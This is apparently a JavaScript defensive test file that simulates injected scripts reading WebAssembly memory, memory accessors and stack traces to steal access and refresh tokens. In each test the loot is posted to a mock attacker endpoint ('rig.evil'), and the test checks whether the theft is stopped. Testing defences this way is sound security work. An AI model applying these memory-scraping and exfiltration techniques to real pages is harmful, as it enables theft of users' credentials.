// T4: a script looks for the WebAssembly instance and reads its memory.

import assert from "node:assert/strict";

import { statusOf } from "../browser/support/calls.mjs";
import { attack } from "./support/attack.mjs";
import { catchInstances, seekMemory, tapMemory, traceCalls } from "./scripts/memory.mjs";

const tokens = ["access token", "refresh token"];
const inWorkers = { worker: "stopped", shared: "stopped", own: "stopped" };

attack(
  {
    id: "T4",
    threat: "S4",
    title: "patch WebAssembly, walk the modules and all objects, read every buffer (STORE-8)",
    when: ["late", "early"],
    outcome: { "page, late": "stopped", "page, early": "works", ...inWorkers },
  },
  async (rig) => {
    const page = await rig.signedInWith(catchInstances);
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await page.evaluate(layBait);
    const { loot, modules } = await rig.inject(page, seekMemory);
    await rig.inject(page, (evil, bytes) => void evil.post(bytes), loot);
    await rig.arrived(page);
    assert.ok(rig.evil.text().includes("bait-in-memory"), "the search missed a memory that lies open");
    assert.ok(modules > 0, "no module was looked through");
    return rig.verdict(...tokens);
  },
);

attack(
  {
    id: "T4b",
    threat: "S4",
    title: "have accessors tell the memory: WebAssembly.Memory.prototype.buffer, and length and byteLength of typed arrays (STORE-8)",
    when: ["late"],
    outcome: "stopped",
  },
  async (rig) => {
    const page = await rig.signedInWith(tapMemory);
    rig.as.expireAccessTokens();
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await page.evaluate(layBait);
    await rig.inject(page, (evil) => void evil.post(evil.spoils()));
    await rig.arrived(page);
    assert.ok(rig.evil.text().includes("bait-in-memory"), "the taps missed a memory that lies open");
    return rig.verdict(...tokens);
  },
);

/** Runs in the page: a memory of the page's own, to see that the search works. */
function layBait() {
  const memory = new WebAssembly.Memory({ initial: 2 });
  new Uint8Array(memory.buffer).set(new TextEncoder().encode("bait-in-memory"), 99);
  globalThis.bait = [memory];
}

attack(
  {
    id: "T4c",
    threat: "S4",
    title: "have stack traces name the instance: of errors that the package throws, and of calls that it makes (STORE-8)",
    when: ["late"],
    outcome: "stopped",
  },
  async (rig) => {
    const page = await rig.signedIn();
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    const caught = await rig.inject(page, traceCalls);
    assert.ok(caught.sites > 0, "no stack was formatted");
    await rig.arrived(page);
    return rig.verdict(...tokens);
  },
);
